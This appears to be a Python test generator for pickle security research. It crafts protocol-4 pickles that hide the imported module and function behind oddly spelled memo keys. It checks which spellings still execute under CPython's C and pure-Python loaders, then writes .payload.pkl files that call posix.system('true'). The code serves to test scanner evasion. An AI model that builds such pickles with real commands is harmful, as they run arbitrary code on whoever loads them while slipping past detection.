"""Loader-differential cases for protocol-0 memo keys (issue 10, principle 3).

A protocol-4 stream hides STACK_GLOBAL's operands behind text PUT/GET opcodes whose keys are
spelled every way CPython's int parsing might accept (whitespace, sign, leading zeros,
underscores, a NUL tail, huge keys). Writes NAME.payload.pkl (posix.system) and prints one
JSON line per spelling: {"name", "reached"} where reached means the canary twin ran under
pickle.loads (C) or pickle._loads (pure Python, as joblib uses).
"""

import itertools
import json
import os
import sys
import types

reached = []
canary = types.ModuleType("mg_canary")
canary.reached = lambda *a: reached.append(a)
sys.modules["mg_canary"] = canary


def short(s):
    return b"\x8c" + bytes([len(s)]) + s


def stream(mod, name, k1, k2):
    return (
        b"\x80\x04"
        + short(mod) + b"p" + k1 + b"\n0"
        + short(name) + b"p" + k2 + b"\n0"
        + b"g" + k1 + b"\ng" + k2 + b"\n\x93"
        + short(b"true") + b"\x85R."
    )


def spellings():
    for lead, sign, zeros, digits, trail in itertools.product(
        [b"", b" ", b"\t", b"\x0b"],
        [b"", b"+", b"-"],
        [b"", b"0", b"000"],
        [b"1", b"2_5", b"1__0", b"99999999999999999999999"],
        [b"", b" ", b"\r", b"\x00x", b"L"],
    ):
        yield lead + sign + zeros + digits + trail


def main(out):
    os.makedirs(out, exist_ok=True)
    for n, k in enumerate(spellings()):
        # The second key differs from the first in value, spelled plainly.
        k2 = b"777"
        ok = False
        for loads in (pickle.loads, pickle._loads):
            reached.clear()
            try:
                loads(stream(b"mg_canary", b"reached", k, k2))
            except Exception:
                pass
            ok = ok or bool(reached)
        name = f"k{n}"
        with open(os.path.join(out, name + ".payload.pkl"), "wb") as f:
            f.write(stream(b"posix", b"system", k, k2))
        print(json.dumps({"name": name, "key": k.decode("latin-1"), "reached": ok}))


import pickle  # noqa: E402

if __name__ == "__main__":
    main(sys.argv[1])
